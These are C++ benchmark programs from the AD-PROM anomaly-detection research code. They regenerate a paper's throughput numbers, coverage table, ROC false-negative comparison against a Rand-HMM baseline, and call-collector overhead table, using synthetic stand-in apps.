       << ", \"auto_selected_kernel\": \"" << results.train_auto_kernel
       << "\", \"smooth_transitions\": false"
       << ", \"bit_identical\": "
       << (results.bit_identical ? "true" : "false") << ", \"runs\": [";
  for (size_t i = 0; i < results.train_runs.size(); ++i) {
    const TrainRun& run = results.train_runs[i];
    json << (i ? ", " : "") << "{\"threads\": " << run.threads
         << ", \"kernel\": \"" << run.kernel << "\""
         << ", \"executed_kernel\": \"" << run.executed_kernel << "\""
         << ", \"transition_density\": "
         << Num(results.train_transition_density)
         << ", \"sparse_density_cutoff\": "
         << Num(run.sparse_density_cutoff)
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"speedup\": " << Num(run.speedup)
         << ", \"per_thread_efficiency\": "
         << Num(run.per_thread_efficiency) << "}";
  }
  json << "], \"batch_runs\": [";
  for (size_t i = 0; i < results.batch_train_runs.size(); ++i) {
    const BatchTrainRun& run = results.batch_train_runs[i];
    json << (i ? ", " : "") << "{\"name\": \"" << run.name
         << "\", \"width\": " << run.width << ", \"simd_level\": \""
         << run.simd_level << "\""
         << ", \"executed_kernel\": \"batch\""
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"speedup_vs_dense\": " << Num(run.speedup_vs_dense)
         << ", \"bit_identical\": "
         << (run.bit_identical ? "true" : "false") << "}";
  }
  json << "]},\n";
  const KernelResults& k = results.kernels;
  json << "  \"kernels\": {\"corpus\": \"bash-like\", \"windows\": "
       << k.windows << ", \"timing_repeats\": " << k.repeats
       << ", \"dense_wall_time_sec\": " << Num(k.dense_seconds)
       << ", \"sparse_wall_time_sec\": " << Num(k.sparse_seconds)
       << ", \"dense_windows_per_sec\": "
       << Num(k.windows / k.dense_seconds)
       << ", \"sparse_windows_per_sec\": "
       << Num(k.windows / k.sparse_seconds)
       << ", \"sparse_speedup\": " << Num(k.sparse_speedup)
       << ", \"transition_nnz\": " << k.transition_nnz
       << ", \"transition_density\": " << Num(k.transition_density)
       << ", \"emission_nnz\": " << k.emission_nnz
       << ", \"emission_density\": " << Num(k.emission_density)
       << ", \"bit_identical\": "
       << (k.bit_identical ? "true" : "false")
       << ", \"quantized_table_bytes\": " << k.quantized_table_bytes
       << ", \"batch_runs\": [";
  for (size_t i = 0; i < k.batch_runs.size(); ++i) {
    const BatchKernelRun& run = k.batch_runs[i];
    json << (i ? ", " : "") << "{\"name\": \"" << run.name
         << "\", \"width\": " << run.width << ", \"simd_level\": \""
         << run.simd_level << "\""
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"windows_per_sec\": " << Num(run.windows_per_sec)
         << ", \"speedup_vs_sparse\": " << Num(run.speedup_vs_sparse)
         << ", \"triage_certified_fraction\": "
         << Num(run.certified_fraction)
         << ", \"scores_ok\": " << (run.scores_ok ? "true" : "false")
         << "}";
  }
  json << "]},\n";
  json << "  \"detection\": {\"corpus\": \"grep-like\", \"repeats\": "
       << results.detect_repeats
       << ", \"traces\": " << results.detect_traces
       << ", \"events_per_pass\": " << results.detect_events
       << ", \"windows_per_pass\": " << results.detect_windows
       << ", \"runs\": [";
  for (size_t i = 0; i < results.detect_runs.size(); ++i) {
    const DetectRun& run = results.detect_runs[i];
    json << (i ? ", " : "") << "{\"name\": \"" << run.name
         << "\", \"threads\": " << run.threads
         << ", \"events\": " << run.events
         << ", \"weak_scaled\": " << (run.weak_scaled ? "true" : "false")
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"events_per_sec\": " << Num(run.events_per_sec)
         << ", \"windows_per_sec\": " << Num(run.windows_per_sec)
         << ", \"per_thread_efficiency\": "
         << Num(run.per_thread_efficiency) << "}";
  }
  json << "]}\n";
  json << "}\n";

  std::ofstream out(json_path, std::ios::binary);
  if (out) {
    out << json.str();
    std::printf("\nwrote %s\n", json_path.c_str());
  } else {
    std::printf("\nWARNING: cannot write %s\n", json_path.c_str());
  }
}

void Run(const Preset& preset, const std::string& json_path) {
  PrintHeader(preset.smoke ? "Training & detection throughput (smoke)"
                           : "Training & detection throughput");
  BenchResults results;
  TrainingSetup setup = SetupTraining(preset);
  BenchTraining(setup, preset, &results);
  BenchKernels(setup, preset, &results);
  BenchDetection(preset, &results);
  WriteJson(results, preset, json_path);
}

}  // namespace
}  // namespace adprom::bench

int main(int argc, char** argv) {
  std::string json_path =
      std::string(ADPROM_SOURCE_DIR) + "/BENCH_throughput.json";
  adprom::bench::Preset preset;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--json" && i + 1 < argc) {
      json_path = argv[++i];
    } else if (arg.rfind("--json=", 0) == 0) {
      json_path = arg.substr(7);
    } else if (arg == "--smoke") {
      preset = adprom::bench::SmokePreset();
    }
  }
  adprom::bench::Run(preset, json_path);
  return 0;
}
