// Regenerates Table IV: statistics of the SIR-dataset stand-ins — test
// cases, coverage, and collected trace volume. The paper reports branch
// and line coverage from gcov on the real SIR suites; our analogue is
// call-site coverage (fraction of static call sites observed at run time)
// and block coverage (fraction of CFG nodes whose calls executed).

#include <cstdio>
#include <set>

#include "bench/bench_common.h"
#include "util/strings.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

void Run() {
  PrintHeader("Table IV — Statistics about the SIR-dataset");
  util::TablePrinter table({"App", "#Test Cases", "Site Coverage",
                            "#States", "Traced Calls", "#Sequences"});

  const apps::CorpusApp sir[] = {
      apps::MakeGrepLike(), apps::MakeGzipLike(), apps::MakeSedLike(),
      apps::MakeBashLike()};
  for (const apps::CorpusApp& app : sir) {
    PreparedApp prepared = Prepare(app);
    const auto traces = CollectAllTraces(prepared);

    std::set<int> seen_sites;
    size_t events = 0;
    size_t sequences = 0;
    for (const runtime::Trace& trace : traces) {
      events += trace.size();
      sequences += core::SlidingWindows(trace, 15).size();
      for (const runtime::CallEvent& event : trace) {
        seen_sites.insert(event.call_site_id);
      }
    }
    const size_t total_sites = prepared.analysis.program_ctm.num_sites();
    const double coverage =
        total_sites == 0
            ? 0.0
            : 100.0 * static_cast<double>(seen_sites.size()) /
                  static_cast<double>(total_sites);
    table.AddRow({prepared.app.name,
                  std::to_string(prepared.app.test_cases.size()),
                  util::StrFormat("%.1f%%", coverage),
                  std::to_string(total_sites), std::to_string(events),
                  std::to_string(sequences)});
  }
  table.Print();
  std::printf(
      "\n(paper: App1 809 cases / 58.7%% branch cov / 34770 traces; ... ;"
      " App4 1061 / 66.3%% / 6628647. Our coverage analogue is call-site"
      " coverage; App4 crosses the >900-state clustering threshold as bash"
      " does in the paper.)\n");
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
