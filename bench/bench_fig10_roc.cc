// Regenerates Figure 10 (a-d): comparison of AD-PROM and Rand-HMM false-
// negative rates (log10) at matched false-positive rates, for App1..App4.
// Normal windows are held out from training; anomalous sequences are the
// paper's A-S1 family (normal windows with the last 5 calls replaced by
// random legitimate calls).

#include <cmath>
#include <cstdio>

#include "attack/synthetic.h"
#include "bench/bench_common.h"
#include "core/baselines.h"
#include "eval/evaluation.h"
#include "util/strings.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

constexpr double kFpBudgets[] = {0.0, 0.01, 0.02, 0.05, 0.10};

std::string Log10Fn(double fn_rate, size_t anomaly_count) {
  // FN rates of exactly zero are floored to one miss short of the sample
  // size for plotting on the log axis (as ROC plots conventionally do).
  const double floor_rate = 1.0 / (2.0 * static_cast<double>(anomaly_count));
  const double rate = fn_rate <= 0.0 ? floor_rate : fn_rate;
  return util::StrFormat("%.2f", std::log10(rate));
}

void EvaluateApp(apps::CorpusApp app, util::TablePrinter* table) {
  PreparedApp prepared = Prepare(std::move(app));
  std::vector<core::TestCase> train_cases;
  std::vector<core::TestCase> eval_cases;
  for (size_t i = 0; i < prepared.app.test_cases.size(); ++i) {
    if (i % 5 == 4) {
      eval_cases.push_back(prepared.app.test_cases[i]);
    } else {
      train_cases.push_back(prepared.app.test_cases[i]);
    }
  }

  core::ProfileOptions adprom_options;
  adprom_options.max_training_windows = 400;
  adprom_options.train.max_iterations = 6;
  core::ProfileOptions rand_options = core::RandHmmOptions(adprom_options);

  auto adprom_system = core::AdProm::Train(
      prepared.program, prepared.app.db_factory, train_cases, adprom_options);
  auto rand_system = core::AdProm::Train(
      prepared.program, prepared.app.db_factory, train_cases, rand_options);
  ADPROM_CHECK(adprom_system.ok());
  ADPROM_CHECK(rand_system.ok());

  auto held_traces = core::AdProm::CollectTraces(
      prepared.program, prepared.analysis.cfgs, prepared.app.db_factory,
      eval_cases);
  ADPROM_CHECK(held_traces.ok());
  std::vector<runtime::Trace> normal_windows = MaterializeWindows(
      *held_traces, adprom_system->profile().options.window_length);
  if (normal_windows.size() > 800) normal_windows.resize(800);

  attack::SyntheticAnomalyGenerator generator(normal_windows, 4242);
  const std::vector<runtime::Trace> anomalies = generator.MakeBatch1(200);

  auto run_model = [&](const core::AdProm& system, const char* label) {
    auto normal_scores =
        eval::ScoreWindows(system.profile(), normal_windows);
    auto anomaly_scores = eval::ScoreWindows(system.profile(), anomalies);
    ADPROM_CHECK(normal_scores.ok());
    ADPROM_CHECK(anomaly_scores.ok());
    const auto curve = eval::RocSweep(*normal_scores, *anomaly_scores);
    std::vector<std::string> cells = {prepared.app.name, label};
    for (double budget : kFpBudgets) {
      cells.push_back(
          Log10Fn(eval::FnRateAtFpBudget(curve, budget), anomalies.size()));
    }
    table->AddRow(std::move(cells));
  };
  run_model(*adprom_system, "AD-PROM");
  run_model(*rand_system, "Rand-HMM");
}

void Run() {
  PrintHeader(
      "Figure 10 — FN rate (log10) at matched FP rates: AD-PROM vs "
      "Rand-HMM, A-S1 anomalies");
  std::vector<std::string> header = {"App", "Model"};
  for (double budget : kFpBudgets) {
    header.push_back(util::StrFormat("FP<=%.2f", budget));
  }
  util::TablePrinter table(std::move(header));
  EvaluateApp(apps::MakeGrepLike(), &table);
  EvaluateApp(apps::MakeGzipLike(), &table);
  EvaluateApp(apps::MakeSedLike(), &table);
  EvaluateApp(apps::MakeBashLike(), &table);
  table.Print();
  std::printf(
      "\n(lower is better; the paper's Fig. 10 shows AD-PROM's curve below"
      " Rand-HMM's at every FP rate for all four applications)\n");
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
