// Regenerates Table VI: Calls Collector vs ltrace performance. The paper
// compares its Dyninst-based collector (names + caller only) with ltrace
// (full argument formatting + addr2line symbol translation). We run the
// same test cases under our LightCollector and the ltrace-like
// HeavyTracer, using google-benchmark for the timing loops, then print
// the overhead-decrease table.

#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>
#include <map>

#include "bench/bench_common.h"
#include "runtime/collector.h"
#include "runtime/interpreter.h"
#include "util/strings.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

/// Test cases 1-2 are print-heavy (many output calls), 3-4 query-heavy
/// (many DB round trips), mirroring the paper's setup.
const core::TestCase& TableSixCase(int index) {
  static const std::vector<core::TestCase> kCases = {
      {{"inventory", "inventory", "inventory", "export"}},
      {{"suppliers", "top", "inventory", "low", "3", "export", "top"}},
      {{"price", "1", "7", "price", "2", "8", "price", "3", "9",
        "restock", "1", "5"}},
      {{"sell", "1", "1", "1", "sell", "2", "1", "2", "refund", "3",
        "shift", "1"}},
  };
  return kCases[static_cast<size_t>(index)];
}

PreparedApp& Supermarket() {
  static PreparedApp* prepared =
      new PreparedApp(Prepare(apps::MakeSupermarketApp()));
  return *prepared;
}

double RunOnce(int case_index, runtime::CallCollector* collector) {
  PreparedApp& prepared = Supermarket();
  auto database = prepared.app.db_factory();
  runtime::Interpreter interpreter(prepared.program, prepared.analysis.cfgs,
                                   database.get());
  interpreter.set_collector(collector);
  const auto start = std::chrono::steady_clock::now();
  auto result = interpreter.Run(TableSixCase(case_index).inputs);
  const auto end = std::chrono::steady_clock::now();
  ADPROM_CHECK(result.ok());
  return std::chrono::duration<double>(end - start).count();
}

void BM_LightCollector(benchmark::State& state) {
  const int case_index = static_cast<int>(state.range(0));
  for (auto _ : state) {
    runtime::LightCollector collector;
    benchmark::DoNotOptimize(RunOnce(case_index, &collector));
  }
}
BENCHMARK(BM_LightCollector)->DenseRange(0, 3)->Unit(benchmark::kMicrosecond);

void BM_HeavyTracer(benchmark::State& state) {
  const int case_index = static_cast<int>(state.range(0));
  for (auto _ : state) {
    runtime::HeavyTracer tracer;
    benchmark::DoNotOptimize(RunOnce(case_index, &tracer));
  }
}
BENCHMARK(BM_HeavyTracer)->DenseRange(0, 3)->Unit(benchmark::kMicrosecond);

void PrintSummaryTable() {
  PrintHeader("Table VI — Calls Collector vs ltrace-like tracer");
  util::TablePrinter table({"Test case", "ltrace-like (s)",
                            "Calls Collector (s)", "Overhead Decrease"});
  double total_decrease = 0.0;
  for (int c = 0; c < 4; ++c) {
    constexpr int kReps = 30;
    double light = 0.0;
    double heavy = 0.0;
    // Baseline run cost without any instrumentation.
    double baseline = 0.0;
    for (int r = 0; r < kReps; ++r) {
      runtime::NullCollector none;
      baseline += RunOnce(c, &none);
      runtime::LightCollector collector;
      light += RunOnce(c, &collector);
      runtime::HeavyTracer tracer;
      heavy += RunOnce(c, &tracer);
    }
    baseline /= kReps;
    light /= kReps;
    heavy /= kReps;
    const double light_overhead = std::max(light - baseline, 1e-9);
    const double heavy_overhead = std::max(heavy - baseline, 1e-9);
    const double decrease =
        100.0 * (1.0 - light_overhead / heavy_overhead);
    total_decrease += decrease;
    table.AddRow({std::to_string(c + 1), util::StrFormat("%.6f", heavy),
                  util::StrFormat("%.6f", light),
                  util::StrFormat("%.2f%%", decrease)});
  }
  table.Print();
  std::printf(
      "\naverage overhead decrease: %.2f%% (paper: 78.29%% average — the"
      " light collector skips argument formatting and symbol translation)\n",
      total_decrease / 4.0);
}

}  // namespace
}  // namespace adprom::bench

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  adprom::bench::PrintSummaryTable();
  return 0;
}
